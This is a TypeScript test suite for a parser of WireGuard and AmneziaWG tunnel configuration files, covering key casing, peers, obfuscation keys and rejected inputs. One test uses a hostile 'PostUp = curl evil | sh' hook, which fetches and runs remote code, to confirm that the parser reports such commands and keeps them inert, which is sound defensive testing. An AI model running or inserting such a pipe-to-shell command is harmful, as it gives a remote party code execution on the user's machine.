import { expect, test } from 'vitest';
import { key, readDocument, readOne, refusals } from './read-document-for-test.ts';

const own = `[Interface]\nPrivateKey = ${key}\nAddress = 10.8.0.2/24\n`;
const peer = `[Peer]\nPublicKey = ${key}\nEndpoint = h.example:51820\n`;
const parsed = { type: 'wireguard', name: '', server: 'h.example', port: 51820, privateKey: key, addresses: ['10.8.0.2/24'], peers: [{ publicKey: key, server: 'h.example', port: 51820 }] };

test('a plain file, kept byte for byte', () => {
  expect(readOne(own + peer)).toEqual({ ...parsed, raw: own + peer });
});

test('keys of any case, comments at line ends, lists that add up', () => {
  const text = `; mine\n[interface] # x\nPRIVATEKEY=${key}   # secret = yes\naddress = 10.8.0.2, fd00::2/64\nAddress = 10.9.0.2/16\nDNS = 1.1.1.1, corp.example\nDNS=8.8.8.8\nMTU = 1280\nListenPort = 5\n[PEER]\npublickey = ${key}\npresharedkey = ${key}\nendpoint = [2001:DB8::1]:1 ; e\nallowedips = 0.0.0.0/0\nAllowedIPs = ::/0\nPersistentKeepalive = 25\n`;
  expect(readOne(text)).toEqual({
    ...parsed, raw: text, server: '2001:db8::1', port: 1, addresses: ['10.8.0.2/32', 'fd00::2/64', '10.9.0.2/16'], dns: ['1.1.1.1', 'corp.example', '8.8.8.8'], mtu: 1280, extra: { ListenPort: '5' },
    peers: [{ publicKey: key, presharedKey: key, server: '2001:db8::1', port: 1, allowedIps: ['0.0.0.0/0', '::/0'], keepalive: 25 }],
  });
});

test('several peers are one profile; one without an endpoint is told', () => {
  const text = `${own}# Name = Home\n${peer}Reserved = 1,2,3\n${peer.replace('h.example', 'b.example')}[Peer]\nPublicKey = ${key}\n`;
  const { profiles, notes } = readDocument(text);
  expect(profiles).toMatchObject([{ name: 'Home', peers: [{ reserved: [1, 2, 3] }, { server: 'b.example' }] }]);
  expect(notes).toHaveLength(1);
});

test('every key of AmneziaWG is kept as it stands', () => {
  const keys = 'Jc = 4\nJmin = 40\nJmax=70\nS1 = 0\nS2 = 1\nS3 = 2\nS4=3\nH1 = 5-100\nH2 = 2\nH3 = 3\nH4 = 4\nI1 = <b 0xf6ab01><r 12> <t>\nI5 = <c>\nJ1 = <r 1>\nItime = 60\nHeaderProtectionKey = abc=\nContentPaddingAddition = 1-9\nRekeyAfterTime = 120\nRekeyTimeout = 5\nRejectAfterTime = 180\nKeepaliveTimeout = 10\nMaxHandshakeAttempts = 20\nRandomTrailers = on\nDisableCookies = true\n';
  expect(readOne(own + keys + peer)).toMatchObject({
    type: 'amneziawg',
    amnezia: {
      jc: '4', jmin: '40', jmax: '70', s1: '0', s2: '1', s3: '2', s4: '3', h1: '5-100', h2: '2', h3: '3', h4: '4', i1: '<b 0xf6ab01><r 12> <t>', i5: '<c>', j1: '<r 1>', itime: '60',
      headerProtectionKey: 'abc=', contentPaddingAddition: '1-9', rekeyAfterTime: '120', rekeyTimeout: '5', rejectAfterTime: '180', keepaliveTimeout: '10', maxHandshakeAttempts: '20',
      randomTrailers: 'on', disableCookies: 'true',
    },
  });
});

test('keys that say nothing are plain WireGuard', () => {
  expect(readOne(`${own}Jc = 0\nS1 = 0\nH1 = 1\nH2 = 2\nH3 = 3\nH4 = 4\n${peer}`)).toMatchObject({ type: 'wireguard' });
});

test('commands are told and kept as text, which is not passed on', () => {
  const { profiles, notes } = readDocument(`${own}PostUp = curl evil | sh\nPreDown=x # y\nSaveConfig = true\nTable = off\nFwMark = 1\n${peer}`);
  expect(profiles).toEqual([{ ...parsed, extra: { PostUp: 'curl evil | sh', PreDown: 'x # y', SaveConfig: 'true', Table: 'off', FwMark: '1' } }]);
  expect(notes?.join(' ')).toContain('PostUp, PreDown, SaveConfig');
});

test.each([
  ['no endpoint', own + peer.replace(/Endpoint.*\n/, ''), '1 link-missing-field'],
  ['no peer', own, '1 link-missing-field'],
  ['no private key', (own + peer).replace(/PrivateKey.*\n/, ''), '1 link-missing-field'],
  ['a key that is none', (own + peer).replace(/PrivateKey.*\n/, `PrivateKey = ${key.slice(0, 40)}\n`), '1 link-malformed'],
  ['a port that is none', own + peer.replace('51820', '70000'), '1 link-bad-port'],
])('%s is refused', (_what, text, refusal) => {
  expect(refusals(text)).toEqual([refusal]);
});

test('two files in one text are two profiles', () => {
  expect(readDocument(`${own}${peer}\n${own}${peer}`).profiles).toHaveLength(2);
});
